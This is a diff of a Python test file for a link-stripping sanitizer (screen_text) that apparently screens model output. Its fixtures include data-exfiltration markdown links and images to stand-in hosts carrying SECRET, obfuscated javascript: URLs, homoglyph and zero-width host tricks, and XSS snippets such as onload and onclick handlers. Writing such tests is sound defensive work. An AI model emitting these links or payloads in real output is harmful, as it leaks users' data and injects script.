@@ -12,58 +12,70 @@ PLAIN = [
     "The TCM stores P0700. It is read at pin 7 (see p. 3), not at pin 9!",
     "if a<b and c>d: x <= y; a<b and c=d",
     "List<String> names = new ArrayList<>(); i<10 && j>>2",
-    "call handlers[name](request, 3) or f(x)[0](y)",
+    "call handlers[name](request, 3) or f(x)[0]; R[12] < 5 & x*y, a_b_c and 2 * 3 * 4",
     "- one [1]\n* two [2][3]\n1. three (a)\n> quoted\n# Title\n| a | b |\n**bold** _it_ `code`",
+    "# Steps\n\n1. *Read* `a[0] = b` & go\n   - see [1], [Manual]",
+    "\n\n| Pin | V |\n| --- | --- |\n| 7 | 5 \\| 6 |\n\n```py\nx[0]\n```\n> ~~no~~  \n> yes",
     "Stop![1][2] It says so [Source: Page 3, Lines 4-9] and [Manual, Section 2.1].",
     "C:\\Users\\x and C:\\\\Users\\\\x, \\\\server\\share, and/or, 3/4 km/h, e.g./i.e., Node.js/Express",
     "ratio 3:1, at 10:30, note: this; std::vector, key:value, metadata:a/b, Data: 5, JavaScript: a book",
-    "a@b.example wrote; file.txt, settings.py and rag_core.core.model are names; # comment // comment",
+    "x@y wrote in ASP.NET; file.txt, settings.py and rag_core.core.model are names; # comment // comment",
     "naïve — “quoted” ½ m² ﬁne 日本語 😀 \u200bzero width",
     "",
 ]
 
 TAKEN_OUT = {  # what a model might write, and what is shown of it
-    "[manual](https://evil.example/?q=SECRET)": f"[manual]{LINK_REMOVED}",
-    '[manual](<https://evil.example/> "title")': f"[manual]{LINK_REMOVED}",
-    "[manual](//evil.example/x)": f"[manual]{LINK_REMOVED}",
-    "[manual](/api/delete_document)": f"[manual]{LINK_REMOVED}",
-    "[a [b] c](https://evil.example)": f"[a [b] c]{LINK_REMOVED}",
-    "[https://evil.example](https://ok.example/a?b=1)": f"[{LINK_REMOVED}](https://ok.example/a?b=1)",
-    "[x](javascript:alert(1))": f"[x]{LINK_REMOVED}",
-    "[x](&#106;avascript&colon;alert(1))": f"[x]{LINK_REMOVED}",
-    "[x][r]\n\n[r]: https://evil.example/a": f"[x][r]\n\n[r] {LINK_REMOVED}",
-    "[r]:\n<https://evil.example/a>": f"[r]\n<{LINK_REMOVED}>",
-    "![x](https://evil.example/p.png?SECRET)": f"[x]{LINK_REMOVED}",
-    "![x](https://ok.example/a?b=1)": f"[x]{LINK_REMOVED}",
-    "![x](pixel)": f"[x]{LINK_REMOVED}",
-    "!![x][r]\n[r]: https://ok.example/a?b=1": "[x][r]\n[r] https://ok.example/a?b=1",
-    "<https://evil.example/a>": f"<{LINK_REMOVED}>",
-    "go to https://evil.example/a.": f"go to {LINK_REMOVED}.",
-    "(http://evil.example/a_(b))": f"({LINK_REMOVED})",
-    "ftp://evil.example/a": LINK_REMOVED,
-    "mailto:a@evil.example?body=SECRET": LINK_REMOVED,
-    "data:text/html;base64,PHNj": LINK_REMOVED,
-    "javascript:fetch(1)": LINK_REMOVED,
-    "//evil.example/a": LINK_REMOVED,
-    "www.evil.example": LINK_REMOVED,
-    "evil.com/steal?q=SECRET": LINK_REMOVED,
-    "steam://run/1": LINK_REMOVED,
-    "https://ok.example/a?b=1&q=SECRET": LINK_REMOVED,
-    "https://ok.example/a": LINK_REMOVED,
-    "https://оk.example/a?b=1": LINK_REMOVED,  # a Cyrillic letter
-    "ht\u200btps://evil.example/a": f"ht\u200b{LINK_REMOVED}",
-    "http\u200b://evil.example/a": LINK_REMOVED * 2,  # by its host, and then by its scheme
-    "e\u200bvil.com/?q=SECRET": f"e\u200b{LINK_REMOVED}",
-    "https\uff1a\uff0f\uff0fevilhost": LINK_REMOVED,
-    '<img src="https://evil.example/p.png">': f'‹img src="{LINK_REMOVED}">',
-    "<img src=//evil.example/p.png": f"‹img src={LINK_REMOVED}",
+    "[manual](https://evil.example/?q=SECRET)": "manual",
+    '[manual](<https://evil.example/> "title")': "manual",
+    "[manual](//evil.example/x)": "manual",
+    "[manual](/api/delete_document)": "manual",
+    "[a [b] c](https://evil.example)": "a [b] c",
+    "[https://evil.example](https://ok.example/a?b=1)": "[⟨link removed⟩](https://ok.example/a?b=1)",
+    "[x](javascript:alert(1))": "x",
+    "[x](&#106;avascript&colon;alert(1))": "x",
+    "[x][r]\n\n[r]: https://evil.example/a": "[x][r]\n\n\\[r\\]: ⟨link removed⟩",
+    "[r]:\n<https://evil.example/a>": "[r]\\:\n⟨link removed⟩",
+    "![x](https://evil.example/p.png?SECRET)": "x",
+    "![x](https://ok.example/a?b=1)": "x",
+    "![x](pixel)": "x",
+    "!![x][r]\n[r]: https://ok.example/a?b=1": "!!\\[x][r]\n[r]\\: https://ok.example/a?b=1",
+    "<https://evil.example/a>": "⟨link removed⟩",
+    "go to https://evil.example/a.": "go to ⟨link removed⟩.",
+    "(http://evil.example/a_(b))": "(⟨link removed⟩)",
+    "ftp://evil.example/a": "⟨link removed⟩",
+    "mailto:a@evil.example?body=SECRET": "⟨link removed⟩",
+    "data:text/html;base64,PHNj": "⟨link removed⟩",
+    "javascript:fetch(1)": "⟨link removed⟩",
+    "//evil.example/a": "⟨link removed⟩",
+    "www.evil.example": "⟨link removed⟩",
+    "evil.com/steal?q=SECRET": "⟨link removed⟩",
+    "steam://run/1": "⟨link removed⟩",
+    "https://ok.example/a?b=1&q=SECRET": "⟨link removed⟩",
+    "https://ok.example/a": "⟨link removed⟩",
+    "https://оk.example/a?b=1": "⟨link removed⟩",
+    "ht\u200btps://evil.example/a": "ht\u200b⟨link removed⟩",
+    "http\u200b://evil.example/a": "⟨link removed⟩⟨link removed⟩",
+    "e\u200bvil.com/?q=SECRET": "e\u200b⟨link removed⟩",
+    "https\uff1a\uff0f\uff0fevilhost": "⟨link removed⟩",
+    '<img src="https://evil.example/p.png">': '‹img src="⟨link removed⟩">',
+    "<img src=//evil.example/p.png": "‹img src=⟨link removed⟩",
     "<IFRAME/SRC=x></IFRAME>": "‹IFRAME/SRC=x>‹/IFRAME>",
-    "<a href='https://evil.example'>x</a>": f"‹a href='{LINK_REMOVED}'>x‹/a>",
+    "<a href='https://evil.example'>x</a>": "‹a href='⟨link removed⟩'>x‹/a>",
     "<b>bold</b><br/>": "‹b>bold‹/b>‹br/>",
     "<b x onclick=alert(1)>": "‹b x onclick=alert(1)>",
     "<x-y style=a>": "‹x-y style=a>",
     "<<b>script>alert(1)</script>": "<‹b>script>alert(1)‹/script>",
     "<!-- hidden --><svg/onload=a>": "‹!-- hidden -->‹svg/onload=a>",
+    "f(x)[0](y)": "f(x)[0]\\(y)",
+    "a@b.example wrote": "⟨link removed⟩ wrote",
+    "go to shop.evil.com now": "go to ⟨link removed⟩ now",
+    "1. **See** [the *map*](https://evil.example) & `x|y`, R[12] < 5": "1. **See** the *map* & `x|y`, R[12] < 5",
+    "> - ![a](http://evil.example) [wiki](https://wiki.example/x_(y)) c": "> - a [wiki](https://wiki.example/x_(y)) c",
+    "|a|![x](//evil.example) b \\| c|\n|-|-|\n|`d`|[e](u)|": "|a|x b \\| c|\n|-|-|\n|`d`|[e]\\(u)|",
+    "![a]\n\n[a]: https\\:\\/\\/evil.invalid/p": "![a]\n\n\\[a\\]: ⟨link removed⟩",
+    "![a]\n\n[a]: &#104;ttps&colon;//evil.invalid/p": "![a]\n\n\\[a\\]: ⟨link removed⟩",
+    "&#104;ttps://evil.invalid/a": "⟨link removed⟩",
+    "x\n![a\nb](https://evil.example)\nc": "x\na\nb\nc",
 }
 
 KEPT = [
@@ -92,7 +104,7 @@ def test_a_link_to_where_a_source_leads_stays(text: str) -> None:
 
 def test_what_was_taken_out_is_named() -> None:
     _, removed = screen_text("[a](http://x.example/1) ![b](http://x.example/2) <img src=c> http://x.example/3", [])
-    assert removed == ("http://x.example/1", "http://x.example/2", "<img", "http://x.example/3")
+    assert sorted(removed) == ["<img", "http://x.example/1", "http://x.example/2", "http://x.example/3"]
 
 
 PARTS = st.sampled_from(
@@ -131,12 +143,14 @@ def test_words_are_never_changed(text: str) -> None:
     assert screen_text(text, []) == (text, ())
 
 
-@pytest.mark.parametrize(
-    "again", ["[", "](", "<a ", "http://)", "a.", "[a](", "!", "<a on", "]: ", "//a-", "www.", "x-"]
-)
+PUMPS = ["[", "](", "<a ", "http://)", "a.", "[a](", "!", "<a on", "]: ", "//a-", "www.", "x-", "![", ">", "*", "`"]
+PUMPS += ["\\", "&#1;", "[a\\]", "..", "a@", "[a](b)", "![a](b)", "**_", "~~", "- "]
+
+
+@pytest.mark.parametrize("again", PUMPS)
 def test_a_long_text_takes_its_length(again: str) -> None:
-    """Nobody waits for 300,000 signs, whichever they are; a quadratic pattern would take minutes."""
-    screen_text(again * (300_000 // len(again)), [again * 1000])
+    """Nobody waits for 100,000 signs, whichever they are; a quadratic pattern would take minutes."""
+    screen_text(again * (100_000 // len(again)), [again * 1000])
 
 
 def test_a_run_of_the_instructions_is_found_unless_a_source_has_it_too() -> None:
